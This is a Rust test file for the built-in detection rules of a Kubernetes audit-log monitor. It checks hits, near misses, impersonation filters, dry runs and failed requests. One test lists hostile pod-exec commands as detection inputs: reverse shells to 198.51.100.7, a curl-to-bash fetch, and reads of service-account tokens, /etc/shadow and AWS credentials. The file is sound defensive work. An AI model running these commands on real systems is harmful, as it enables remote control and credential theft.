//! Tests of the built-in rules, each with a hit and a near miss.
//!
//! Goal: a built-in rule finds what its text says, and does not alert if the deciding detail is
//! missing. Method: `rules/fixtures/<rule>.hit.ndjson` and `<rule>.near-miss.ndjson` contain events
//! as kube-apiserver writes them. In the hit of a single-event rule, every event must match alone.
//! In the hit of a correlation, the events must match together. The near miss must not alert.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::value::RawValue;
use strongroom_schemas::{Alert, Severity};
use yaml_serde::{Deserializer, Value};

use crate::testing::batch_of;
use crate::{Detector, DetectorConfig, Matcher, RuleSet};

/// Minimum number of built-in rules.
const RULES_MIN: usize = 150;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

/// Returns the documents of each rule file, by the file's stem.
fn files() -> BTreeMap<String, Vec<Value>> {
    let mut files = BTreeMap::new();
    for entry in fs::read_dir(folder()).expect("the folder of rules") {
        let path = entry.expect("an entry of the folder").path();
        if path.extension().is_none_or(|extension| extension != "yml") {
            continue;
        }
        let stem = path.file_stem().expect("a file has a name").to_string_lossy().into_owned();
        let documents = Deserializer::from_str(&read(&path))
            .map(|document| {
                serde::Deserialize::deserialize(document)
                    .unwrap_or_else(|error| panic!("{}: {error}", path.display()))
            })
            .collect();
        files.insert(stem, documents);
    }
    files
}

fn events(rule: &str, kind: &str) -> Vec<String> {
    let text = read(&folder().join("fixtures").join(format!("{rule}.{kind}.ndjson")));
    assert!(!text.is_empty(), "{rule}.{kind}.ndjson is empty");
    text.lines().map(str::to_owned).collect()
}

/// Returns the alerts of `rules` for `lines`, matched as one batch.
fn alerts(rules: &Arc<RuleSet>, lines: &[String]) -> Vec<Alert> {
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let matches = Matcher::new(Arc::clone(rules)).match_batch(&batch_of(&lines)).expect("a batch of events");
    Detector::new(Arc::clone(rules), DetectorConfig::default()).observe(matches)
}

fn fired(alerts: &[Alert], rule: &str) -> usize {
    alerts.iter().filter(|alert| alert.rule_name == rule).count()
}

fn builtin() -> Arc<RuleSet> {
    Arc::new(RuleSet::builtin().unwrap_or_else(|error| panic!("built-in rules: {error}")))
}

fn is_correlation(documents: &[Value]) -> bool {
    documents.iter().any(|document| document.get("correlation").is_some())
}

#[test]
fn every_rule_fires_on_its_hit_and_not_on_its_near_miss() {
    let rules = builtin();
    let mut faults = Vec::new();
    for (rule, documents) in files() {
        let (hit, miss) = (events(&rule, "hit"), events(&rule, "near-miss"));
        if is_correlation(&documents) {
            let count = fired(&alerts(&rules, &hit), &rule);
            if count != 1 {
                faults.push(format!("{rule}: the hit fires {count} times, not once"));
            }
        } else {
            for (at, event) in hit.iter().enumerate() {
                let count = fired(&alerts(&rules, std::slice::from_ref(event)), &rule);
                if count != 1 {
                    faults.push(format!("{rule}: event {} of the hit fires {count} times, not once", at + 1));
                }
            }
        }
        let count = fired(&alerts(&rules, &miss), &rule);
        if count != 0 {
            faults.push(format!("{rule}: the near miss fires {count} times"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn fixtures_belong_to_rules() {
    let rules: BTreeSet<String> = files().into_keys().collect();
    let mut stems = BTreeSet::new();
    for entry in fs::read_dir(folder().join("fixtures")).expect("the folder of fixtures") {
        let name = entry.expect("an entry of the folder").file_name().to_string_lossy().into_owned();
        let stem = name.strip_suffix(".hit.ndjson").or_else(|| name.strip_suffix(".near-miss.ndjson"));
        stems.insert(stem.unwrap_or_else(|| panic!("{name} is neither a hit nor a near miss")).to_owned());
    }
    assert_eq!(stems, rules);
}

/// A near miss must be near. For a correlation, it has as many events as the hit, or one fewer. For
/// a single-event rule, each of its events differs from an event of the hit in 1 to 4 members.
#[test]
fn near_misses_are_near() {
    for (rule, documents) in files() {
        let (hit, miss) = (events(&rule, "hit"), events(&rule, "near-miss"));
        if is_correlation(&documents) {
            let short = hit.len() - miss.len().min(hit.len());
            assert!(
                miss.len() <= hit.len() && short <= 1,
                "{rule}: {} against {} events",
                miss.len(),
                hit.len()
            );
            continue;
        }
        for event in &miss {
            let nearest = hit.iter().map(|other| differences(event, other)).min().expect("a hit has events");
            assert!(nearest > 0, "{rule}: an event is both hit and near miss");
            assert!(nearest <= 4, "{rule}: the near miss differs from the hit in {nearest} members");
        }
    }
}

/// Returns the number of top-level members that differ, not counting ids, times and annotations.
fn differences(left: &str, right: &str) -> usize {
    let (left, right) = (members(left), members(right));
    let (left, right): (BTreeMap<_, _>, BTreeMap<_, _>) = (
        left.iter().map(|(key, value)| (key, value.get())).collect(),
        right.iter().map(|(key, value)| (key, value.get())).collect(),
    );
    let keys: BTreeSet<&&String> = left.keys().chain(right.keys()).collect();
    keys.into_iter()
        .filter(|key| {
            !matches!(key.as_str(), "auditID" | "requestReceivedTimestamp" | "stageTimestamp" | "annotations")
        })
        .filter(|key| left.get(**key) != right.get(**key))
        .count()
}

/// Returns the members of an event. A body may be nested so deeply that only its text can be kept.
fn members(event: &str) -> BTreeMap<String, Box<RawValue>> {
    serde_json::from_str(event).unwrap_or_else(|error| panic!("{event}: {error}"))
}

#[test]
fn every_rule_says_what_an_analyst_needs() {
    let files = files();
    assert!(files.len() >= RULES_MIN, "{} rule files", files.len());
    let (mut ids, mut titles) = (HashSet::new(), HashSet::new());
    for (rule, documents) in &files {
        for document in documents {
            let text = |key: &str| document.get(key).and_then(Value::as_str).unwrap_or_default();
            let id = text("id");
            assert!(id.len() == 36 && id.split('-').count() == 5, "{rule}: id {id:?} is not a UUID");
            assert!(ids.insert(id.to_owned()), "{rule}: id {id} is taken");
            let alerts = !(is_correlation(documents) && document.get("correlation").is_none());
            if !alerts {
                assert!(!text("name").is_empty(), "{rule}: a rule that feeds a correlation needs a name");
                continue;
            }
            assert!(titles.insert(text("title").to_owned()), "{rule}: title {:?} is taken", text("title"));
            assert!(text("level").parse::<Severity>().is_ok(), "{rule}: level {:?}", text("level"));
            for key in ["title", "description", "message", "next_steps", "status"] {
                assert!(!text(key).is_empty(), "{rule}: {key} is missing");
            }
            assert!(text("message").contains('{'), "{rule}: the message has none of the alert's own values");
            assert!(text("next_steps").contains("SELECT "), "{rule}: next_steps has no SQL query");
            let list = |key: &str| -> Vec<&str> {
                let items = document.get(key).and_then(Value::as_sequence);
                items.map(|items| items.iter().filter_map(Value::as_str).collect()).unwrap_or_default()
            };
            assert!(!list("falsepositives").is_empty(), "{rule}: falsepositives is missing");
            let tags = list("tags");
            let technique = |tag: &&str| {
                tag.strip_prefix("attack.t")
                    .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
            };
            assert!(tags.iter().any(technique), "{rule}: no ATT&CK technique");
            assert!(tags.iter().any(|tag| !technique(tag)), "{rule}: no ATT&CK tactic");
        }
    }
}

/// The texts in the rule files end up in the alert.
#[test]
fn built_in_rules_are_the_files() {
    let rules = builtin();
    let names: BTreeSet<String> =
        rules.rules().iter().filter(|rule| rule.alerts).map(|rule| rule.name.clone()).collect();
    assert_eq!(names, files().into_keys().collect());
    let alerts = alerts(&rules, &events("pod-exec-suspicious-command", "hit"));
    let alert = alerts
        .iter()
        .find(|alert| alert.rule_name == "pod-exec-suspicious-command")
        .expect("the rule fires on its hit");
    assert_eq!(alert.severity, Severity::High);
    assert!(alert.techniques.iter().any(|technique| technique == "T1609"), "{:?}", alert.techniques);
    assert!(alert.message.contains("lena.hofer@clinic.example"), "{}", alert.message);
    assert!(alert.message.contains("169.254.169.254"), "{}", alert.message);
    assert!(!alert.message.contains('{'), "{}", alert.message);
}

/// Returns an event with members replaced, each at a JSON pointer whose parent exists.
fn edited(event: &str, changes: &[(&str, serde_json::Value)]) -> String {
    let mut members = members(event);
    for (pointer, new) in changes {
        let rest = pointer.strip_prefix('/').expect("a pointer");
        let member = rest.split('/').next().expect("a pointer has a first part").to_owned();
        let mut value = match members.get(&member) {
            Some(text) => serde_json::json!({ member.as_str(): text }),
            None => serde_json::json!({}),
        };
        let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
        let parent =
            value.pointer_mut(parent).unwrap_or_else(|| panic!("{pointer} has no parent in {event}"));
        match parent {
            serde_json::Value::Object(object) => drop(object.insert(key.to_owned(), new.clone())),
            serde_json::Value::Array(items) => items[key.parse::<usize>().expect("an index")] = new.clone(),
            _ => panic!("{pointer} leads into neither object nor array"),
        }
        let text = value[member.as_str()].to_string();
        members.insert(member, RawValue::from_string(text).expect("a value has a JSON text"));
    }
    serde_json::to_string(&members).expect("members are JSON")
}

/// Returns the user names that a rule excludes with filters that test only `user.username`.
fn names_left_out(documents: &[Value]) -> Vec<String> {
    let mut names = Vec::new();
    for detection in documents.iter().filter_map(|document| document.get("detection")?.as_mapping()) {
        for (key, filter) in detection {
            let is_filter = key.as_str().is_some_and(|key| key.starts_with("filter_"));
            let Some(lines) = filter.as_mapping().filter(|_| is_filter) else { continue };
            let texts = |name: &str| -> Vec<String> {
                match lines.get(name) {
                    Some(Value::String(text)) => vec![text.clone()],
                    Some(Value::Sequence(items)) => {
                        items.iter().filter_map(Value::as_str).map(str::to_owned).collect()
                    }
                    _ => vec![],
                }
            };
            let (exact, starts, ends) =
                (texts("user.username"), texts("user.username|startswith"), texts("user.username|endswith"));
            let known = usize::from(!exact.is_empty())
                + usize::from(!starts.is_empty())
                + usize::from(!ends.is_empty());
            if lines.len() != known {
                continue;
            }
            names.extend(exact);
            let end = ends.first().map_or("x", String::as_str);
            names.extend(starts.iter().map(|start| format!("{start}{end}")));
        }
    }
    names
}

/// A rule does not alert on the users that it excludes. Another user cannot become excluded by
/// impersonating one of them.
#[test]
fn filters_use_the_authenticated_user() {
    let rules = builtin();
    let (mut faults, mut tried) = (Vec::new(), 0);
    for (rule, documents) in files() {
        for name in names_left_out(&documents) {
            tried += 1;
            let hit = events(&rule, "hit");
            let by_them: Vec<String> =
                hit.iter().map(|event| edited(event, &[("/user/username", name.as_str().into())])).collect();
            if fired(&alerts(&rules, &by_them), &rule) > 0 {
                faults.push(format!("{rule} fires on {name}, which it is meant to exclude"));
            }
            let in_their_name: Vec<String> = hit
                .iter()
                .map(|event| edited(event, &[("/impersonatedUser", serde_json::json!({"username": name}))]))
                .collect();
            if fired(&alerts(&rules, &in_their_name), &rule) == 0 {
                faults.push(format!("{rule} is silenced by impersonating {name}"));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    assert!(tried > 100, "only {tried} names were tried");
}

/// A request that failed, or is still in progress, does not match a rule about completed actions,
/// whichever member of the event shows that.
#[test]
fn failed_requests_match_no_rule_about_completed_actions() {
    let rules = builtin();
    // Rules about attempts or about the user, which match whatever the response is.
    const ANY_ANSWER: &[&str] = &[
        "admission-refusals",
        "anonymous-probing",
        "anonymous-write-attempt",
        "attack-tool-client",
        "authentication-failures",
        "authorization-denials-by-actor",
        "authorization-denials-by-address",
        "authorization-denials-many-identities",
        "baseline-anonymous-requests",
        "baseline-denials",
        "break-glass-identity-used",
        "control-plane-identity-at-public-address",
        "control-plane-identity-misused",
        "credential-at-two-addresses",
        "denied-resource-enumeration",
        "exec-refused",
        "first-public-address-of-service-account",
        "first-tool-of-service-account",
        "impersonate-privileged",
        "impersonate-user",
        "impersonation-forges-pod-identity",
        "impersonation-refused",
        "node-credential-misused",
        "openshift-account-guessed-from-many-addresses",
        "openshift-password-guessing",
        "permission-listing",
        "person-at-many-addresses",
        "pod-security-refused",
        "request-not-identified",
        "secret-bodies-audited",
        "secret-read-refused",
        "secret-reads-denied",
        "sequence-anonymous-then-token",
        "service-account-from-public-address",
        "service-account-interactive-client",
        "token-bodies-audited",
        "token-used-by-script",
        "write-refused-to-person",
        "write-refused-to-service-account",
    ];
    for rule in files().into_keys() {
        let hit = events(&rule, "hit");
        let received: Vec<String> =
            hit.iter().map(|event| edited(event, &[("/stage", "RequestReceived".into())])).collect();
        // The rule that is about requests without a later stage.
        let unfinished = usize::from(rule == "request-unfinished");
        assert_eq!(
            fired(&alerts(&rules, &received), &rule).min(1),
            unfinished,
            "{rule} fires on RequestReceived"
        );
        if unfinished == 1 {
            // Requests without a later stage have no response.
            continue;
        }
        let none = serde_json::Value::Null;
        let failures: [&[(&str, serde_json::Value)]; 5] = [
            &[("/responseStatus", serde_json::json!({"code": 403}))],
            &[("/responseStatus", serde_json::json!({"code": 409}))],
            &[("/responseStatus", serde_json::json!({"code": 0, "status": "Failure"}))],
            &[("/responseStatus", none), ("/annotations", serde_json::json!({DECISION: "forbid"}))],
            &[("/stage", "Panic".into())],
        ];
        let fires = failures.iter().any(|failure| {
            let failed: Vec<String> = hit.iter().map(|event| edited(event, failure)).collect();
            fired(&alerts(&rules, &failed), &rule) > 0
        });
        let may = ANY_ANSWER.contains(&rule.as_str());
        assert!(!fires || may, "{rule} fires on failed requests");
    }
}

/// Annotation with the decision of the authorizer.
const DECISION: &str = "authorization.k8s.io/decision";

/// If an event has no response code but the request was granted, a rule that asks for success
/// fires. If the event shows no outcome at all, only rules of high and critical severity fire, and
/// their alerts say so.
#[test]
fn an_unknown_outcome_is_distinguished() {
    let rules = builtin();
    let (mut grave, mut others) = (0, 0);
    for (rule, documents) in files() {
        let asks = documents
            .iter()
            .filter_map(|document| document.get("detection"))
            .all(|detection| yaml_serde::to_string(detection).expect("YAML").contains("outcome: success"));
        let hit = events(&rule, "hit");
        if !asks || hit.iter().any(|event| event.contains("\"authorization.k8s.io/decision\":\"forbid\"")) {
            continue;
        }
        let changed = |decision: serde_json::Value| -> Vec<String> {
            let with_decision = |event: &String| {
                let annotations = members(event).get("annotations").map(|text| text.get().to_owned());
                let mut annotations: serde_json::Map<_, _> =
                    annotations.and_then(|text| serde_json::from_str(&text).ok()).unwrap_or_default();
                annotations.insert(DECISION.to_owned(), decision.clone());
                let none = serde_json::Value::Null;
                edited(event, &[("/responseStatus", none), ("/annotations", annotations.into())])
            };
            hit.iter().map(with_decision).collect()
        };
        let granted = alerts(&rules, &changed("allow".into()));
        let granted: Vec<&Alert> = granted.iter().filter(|alert| alert.rule_name == rule).collect();
        assert!(!granted.is_empty(), "{rule} is silent without a code");
        assert!(granted.iter().all(|alert| !alert.message.contains("unconfirmed")), "{rule}");
        let unknown = alerts(&rules, &changed(serde_json::Value::Null));
        let unknown: Vec<&Alert> = unknown.iter().filter(|alert| alert.rule_name == rule).collect();
        if granted[0].severity >= Severity::High {
            grave += 1;
            assert_eq!(unknown.len(), granted.len(), "{rule} is silent without an outcome");
            assert!(unknown.iter().all(|alert| alert.message.starts_with("unconfirmed: ")), "{rule}");
        } else {
            others += 1;
            assert!(unknown.is_empty(), "{rule} fires without an outcome");
        }
    }
    assert!(grave > 30 && others > 30, "{grave} and {others} rules");
}

/// A dry run changes nothing, so no rule about a change fires on it. Some requests ignore the
/// parameter `dryRun`; rules fire on those.
#[test]
fn dry_runs_change_nothing() {
    let rules = builtin();
    let (mut silenced, mut ignored) = (0, 0);
    for (rule, documents) in files() {
        let asks = documents
            .iter()
            .filter_map(|document| document.get("detection"))
            .all(|detection| yaml_serde::to_string(detection).expect("YAML").contains("outcome: success"));
        if !asks || is_correlation(&documents) {
            continue;
        }
        for event in events(&rule, "hit") {
            let value = |key: &str| members(&event).get(key).map(|value| value.get().to_owned());
            let text = |key| serde_json::from_str::<String>(&value(key)?).ok();
            let (Some(uri), Some(verb)) = (text("requestURI"), text("verb")) else { continue };
            let object: serde_json::Value =
                serde_json::from_str(&value("objectRef").unwrap_or_default()).unwrap_or_default();
            let part = |key: &str| object.get(key).and_then(serde_json::Value::as_str);
            let separator = if uri.contains('?') { '&' } else { '?' };
            let dry = edited(&event, &[("/requestURI", format!("{uri}{separator}dryRun=All").into())]);
            let obeys = strongroom_schemas::outcome::obeys_dry_run(
                Some(&verb),
                part("apiGroup"),
                part("resource"),
                part("subresource"),
            );
            let count = fired(&alerts(&rules, &[dry]), &rule);
            assert_eq!(count, usize::from(!obeys), "{rule} on a dry run of {verb} {object}");
            *(if obeys { &mut silenced } else { &mut ignored }) += 1;
        }
    }
    assert!(silenced > 50 && ignored > 20, "{silenced} and {ignored} events");
}

/// The patterns that are easiest to get wrong, each with values that match and values that do not.
#[test]
fn patterns_mean_what_they_say() {
    let rules = builtin();
    let check = |rule: &str,
                 event: usize,
                 pointer: &str,
                 make: &dyn Fn(&str) -> String,
                 hits: &[&str],
                 misses: &[&str]| {
        let hit = events(rule, "hit").swap_remove(event);
        for (values, expected) in [(hits, 1), (misses, 0)] {
            for value in values {
                let event = edited(&hit, &[(pointer, make(value).into())]);
                assert_eq!(fired(&alerts(&rules, &[event]), rule), expected, "{rule} on {value:?}");
            }
        }
    };
    let as_is = |text: &str| text.to_owned();
    check(
        "host-path-sensitive",
        0,
        "/requestObject/spec/volumes/1/hostPath/path",
        &as_is,
        &[
            "/",
            "//",
            "/etc",
            "/etc/",
            "/etc/kubernetes/pki",
            "/root/.ssh",
            "/proc",
            "/sys/fs/cgroup",
            "/dev/sda",
            "/home/core",
            "/var",
            "/var/run/",
            "/var/run/docker.sock",
            "/run/containerd/containerd.sock",
            "/run/secrets",
            "/var/lib/kubelet",
            "/var/lib/etcd/member",
            "/var/log",
            "/usr",
            "//etc/shadow",
        ],
        &[
            "/srv",
            "/mnt/data",
            "/data",
            "/usr/local",
            "/etcd",
            "/rooted",
            "/var/lib/postgresql",
            "/var/log/pods",
            "/var/libs",
            "/opt/local-path-provisioner",
            "/devices",
            "/run/flannel",
            "/homes/etc",
        ],
    );
    let command = |text: &str| {
        let words: Vec<String> = text
            .split('\u{1f}')
            .map(|word| {
                let coded: String = word.bytes().map(|byte| format!("%{byte:02X}")).collect();
                format!("command={coded}")
            })
            .collect();
        format!(
            "/api/v1/namespaces/patients/pods/portal-0/exec?{}&container=portal&stdout=true",
            words.join("&")
        )
    };
    check(
        "pod-exec-shell",
        0,
        "/requestURI",
        &command,
        &[
            "sh",
            "bash",
            "/bin/sh\u{1f}-c\u{1f}id",
            "/usr/bin/env bash",
            "zsh\u{1f}-i",
            "ash",
            "busybox sh",
            "xargs\u{1f}bash",
            "timeout\u{1f}-s\u{1f}9\u{1f}60s\u{1f}/bin/bash",
            "env\u{1f}-i\u{1f}A=b\u{1f}sh",
            "nice\u{1f}-n\u{1f}5\u{1f}xargs\u{1f}-0\u{1f}dash",
            "chroot\u{1f}/host\u{1f}bash",
            "nsenter\u{1f}-t\u{1f}1\u{1f}-m\u{1f}sh",
            "sudo\u{1f}-u\u{1f}postgres\u{1f}ksh",
        ],
        &[
            "xargs\u{1f}ls\u{1f}/bin/sh",
            "timeout\u{1f}60\u{1f}ls\u{1f}/bin/sh",
            "env\u{1f}A=sh\u{1f}ls",
            "shutdown",
            "ls\u{1f}/bin/sh",
            "/app/publish.sh",
            "push",
            "ssh-keygen",
            "bashcov",
        ],
    );
    check(
        "pod-exec-suspicious-command",
        0,
        "/requestURI",
        &command,
        &[
            "bash\u{1f}-c\u{1f}bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "nc\u{1f}-e\u{1f}/bin/sh\u{1f}198.51.100.7\u{1f}4444",
            "ncat\u{1f}-lvnp\u{1f}4444\u{1f}-c\u{1f}sh",
            "cat\u{1f}/var/run/secrets/kubernetes.io/serviceaccount/token",
            "cat\u{1f}/etc/shadow",
            "cat\u{1f}/home/app/.aws/credentials",
            "nsenter\u{1f}--target\u{1f}1\u{1f}--mount",
            "chroot\u{1f}/host",
            "sh\u{1f}-c\u{1f}curl -s https://198.51.100.7/x | bash",
            "sh\u{1f}-c\u{1f}echo aWQ= | base64 -d | sh",
            "curl\u{1f}-H\u{1f}Metadata-Flavor: Google\u{1f}http://metadata.google.internal/",
            "cat\u{1f}/proc/1/environ",
            "ls\u{1f}/var/run/docker.sock",
        ],
        &[
            "ls\u{1f}-la\u{1f}/srv/app",
            "cat\u{1f}/etc/hosts",
            "curl\u{1f}-s\u{1f}http://127.0.0.1:8080/healthz",
            "sh\u{1f}-c\u{1f}env | sort",
            "nc\u{1f}-z\u{1f}db\u{1f}5432",
            "pg_dump\u{1f}portal",
            "cat\u{1f}/proc/meminfo",
            "psql\u{1f}-c\u{1f}select 1",
        ],
    );
    check(
        "pod-file-copy",
        0,
        "/requestURI",
        &command,
        &[
            "tar\u{1f}cf\u{1f}-\u{1f}/srv",
            "tar\u{1f}xmf\u{1f}-\u{1f}-C\u{1f}/tmp",
            "/bin/tar\u{1f}-xf\u{1f}-",
        ],
        &["tar\u{1f}tf\u{1f}-", "tar\u{1f}cf\u{1f}/tmp/a.tar\u{1f}/srv", "start\u{1f}cf\u{1f}-"],
    );
    check(
        "anonymous-access-allowed",
        0,
        "/requestURI",
        &as_is,
        &[
            "/api/v1/pods",
            "/",
            "/api",
            "/versions",
            "/healthzz",
            "/metrics",
            "/api/v1/namespaces/x/pods?a=/livez",
        ],
        &[
            "/healthz",
            "/livez?exclude=etcd",
            "/readyz/ping",
            "/version",
            "/version/",
            "/version?timeout=32s",
            "/.well-known/openid-configuration",
            "/openid/v1/jwks",
        ],
    );
    check(
        "node-proxy",
        1,
        "/requestURI",
        &as_is,
        &[
            "/api/v1/nodes/worker-3/proxy/pods",
            "/api/v1/nodes/worker-3/proxy/logs/",
            "/api/v1/nodes/worker-3/proxy/run/a/b/c?cmd=/proxy/metrics",
            "/api/v1/nodes/worker-3/proxy/metrics/../configz",
        ],
        &[
            "/api/v1/nodes/worker-3/proxy/metrics",
            "/api/v1/nodes/worker-3/proxy/metrics/resource",
            "/api/v1/nodes/worker-3/proxy/stats/summary?only_cpu_and_memory=true",
            "/api/v1/nodes/worker-3/proxy/healthz",
        ],
    );
    // A query may have several selectors, but the server obeys only the first. Only that selector
    // may exclude an event, not a later one, and not one inside the value of another parameter.
    check(
        "secrets-listed-cluster-wide",
        0,
        "/requestURI",
        &as_is,
        &[
            "/api/v1/secrets?limit=500",
            "/api/v1/secrets?limit=500&note=labelSelector=owner%3Dhelm",
            "/api/v1/secrets?labelSelector=a&labelSelector=owner%3Dhelm",
            "/api/v1/secrets?labelSelector=owner%3Dhelmet",
            "/api/v1/secrets?labelSelector=owner%21%3Dhelm",
        ],
        &[
            "/api/v1/secrets?labelSelector=owner%3Dhelm",
            "/api/v1/secrets?labelSelector=owner%3Dhelm%2Cstatus%3Ddeployed&limit=500",
            "/api/v1/secrets?limit=500&labelSelector=name%3Dportal%2Cowner%3Dhelm",
        ],
    );
    let config = |text: &str| text.to_owned();
    check(
        "configmap-credentials",
        0,
        "/requestObject/data/application.properties",
        &config,
        &[
            "spring.datasource.password=correct-horse",
            "DB_PASSWORD: correct-horse",
            "{\"password\": \"correct-horse\"}",
            "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
            "-----BEGIN PRIVATE KEY-----",
            "client_secret=8f7d6c5b4a",
        ],
        &[
            "password=${DB_PASSWORD}",
            "password_min_length=12",
            "password:",
            "-----BEGIN CERTIFICATE-----",
            "passwordless=true",
            "reset-password.url=https://clinic.example/reset",
            "password = <see vault>",
        ],
    );
}

/// Requests without a login raise no alert if everybody may make them, but a read of Secrets does.
/// A request to log in to OpenShift is made without a login, too: guessed passwords raise one
/// alert, and a login that succeeds raises none.
#[test]
fn requests_without_a_login_are_distinguished() {
    let rules = builtin();
    let event = |at: usize, uri: &str, code: u16, annotations: &str| {
        let object = match uri.split('/').nth(5).and_then(|rest| rest.split('?').next()) {
            Some(resource) if uri.starts_with("/api/v1/namespaces/") => {
                format!(r#""objectRef":{{"resource":"{resource}","namespace":"kube-public"}},"#)
            }
            _ => String::new(),
        };
        format!(
            r#"{{"auditID":"{at}","level":"Metadata","stage":"ResponseComplete","requestURI":"{uri}","verb":"get","user":{{"username":"system:anonymous","groups":["system:unauthenticated"]}},"sourceIPs":["192.0.2.10"],"userAgent":"curl/8",{object}"responseStatus":{{"metadata":{{}},"code":{code}}},"requestReceivedTimestamp":"2026-03-02T10:00:00.000000Z","stageTimestamp":"2026-03-02T10:00:00.000000Z","annotations":{{{annotations}"authorization.k8s.io/decision":"allow"}}}}"#
        )
    };
    let open = [
        "/healthz",
        "/livez?verbose",
        "/readyz?exclude=etcd",
        "/readyz/ping?verbose=true",
        "/version?timeout=32s",
        "/openid/v1/jwks",
        "/.well-known/openid-configuration",
        "/.well-known/oauth-authorization-server",
        "/api/v1/namespaces/kube-public/configmaps/cluster-info?timeout=10s",
        "/oauth/token/request",
        "/logout",
    ];
    let open: Vec<String> = open.iter().enumerate().map(|(at, uri)| event(at, uri, 200, "")).collect();
    let found: Vec<String> = alerts(&rules, &open).into_iter().map(|alert| alert.message).collect();
    assert!(found.is_empty(), "{}", found.join("\n"));
    let secret = alerts(&rules, &[event(0, "/api/v1/namespaces/clinic/secrets", 200, "")]);
    assert_eq!(secret.iter().map(|alert| alert.severity).max(), Some(Severity::High));

    let login = |at: usize, decision: &str, code: u16| {
        let annotations = format!(
            r#""authentication.openshift.io/decision":"{decision}","authentication.openshift.io/username":"bob","#
        );
        let uri = match code {
            302 => "/login/htpasswd?then=%2F",
            _ => "/oauth/authorize?client_id=openshift-challenging-client&response_type=token",
        };
        event(at, uri, code, &annotations)
    };
    let good = login(100, "allow", 302);
    assert_eq!(alerts(&rules, std::slice::from_ref(&good)).len(), 0);
    let mut logins: Vec<String> = (0..25).map(|at| login(at, "deny", 302)).collect();
    logins.extend([login(25, "error", 500), login(26, "deny", 401), good]);
    let found = alerts(&rules, &logins);
    let found: Vec<&str> = found.iter().map(|alert| alert.rule_name.as_str()).collect();
    assert_eq!(found, ["openshift-password-guessing"]);
}

/// How the names of resources end that are never stored, so that nothing can be applied to them.
const NEVER_STORED: &str = "reviews";

/// Rules about objects that built-in controllers create, which they do with POST and not by apply.
const POSTED: [&str; 1] = ["host-access-pod-by-controller"];

/// Returns a creation in the form of a server-side apply: a PATCH of the object's own path that is
/// answered with 201. Returns `None` if the event is not the creation of a stored object, or is
/// nested too deeply for this test.
fn applied(line: &str) -> Option<String> {
    let mut event: serde_json::Value = serde_json::from_str(line).ok()?;
    let object = event.get("objectRef")?;
    let text = |name: &str| object.get(name).and_then(serde_json::Value::as_str);
    if event["verb"] != "create" || text("subresource").is_some() || text("resource")?.ends_with(NEVER_STORED)
    {
        return None;
    }
    let name = text("name").unwrap_or("made").to_owned();
    let uri = event["requestURI"].as_str().expect("a URI").to_owned();
    let path = uri.split('?').next().expect("a path");
    event["requestURI"] = format!("{path}/{name}?fieldManager=kubectl&force=false").into();
    event["objectRef"]["name"] = name.into();
    event["verb"] = "patch".into();
    if event["responseStatus"]["code"].as_i64().is_some_and(|code| code < 400) {
        event["responseStatus"]["code"] = 201.into();
    }
    Some(event.to_string())
}

/// Goal: an object raises the same alerts whether it is created by server-side apply or by POST.
#[test]
fn creations_by_apply_raise_the_same_alerts() {
    let rules = builtin();
    let (mut faults, mut tried) = (Vec::new(), 0);
    for (rule, documents) in files() {
        let hit = events(&rule, "hit");
        if POSTED.contains(&rule.as_str()) {
            continue;
        }
        if is_correlation(&documents) {
            let lines: Vec<String> =
                hit.iter().map(|line| applied(line).unwrap_or_else(|| line.clone())).collect();
            tried += usize::from(lines != hit);
            let count = fired(&alerts(&rules, &lines), &rule);
            if count != 1 {
                faults.push(format!("{rule}: fires {count} times"));
            }
            continue;
        }
        for line in hit.iter().filter_map(|line| applied(line)) {
            tried += 1;
            if fired(&alerts(&rules, &[line]), &rule) != 1 {
                faults.push(format!("{rule}: is silent"));
            }
        }
    }
    assert!(tried >= 100, "{tried} creations");
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}
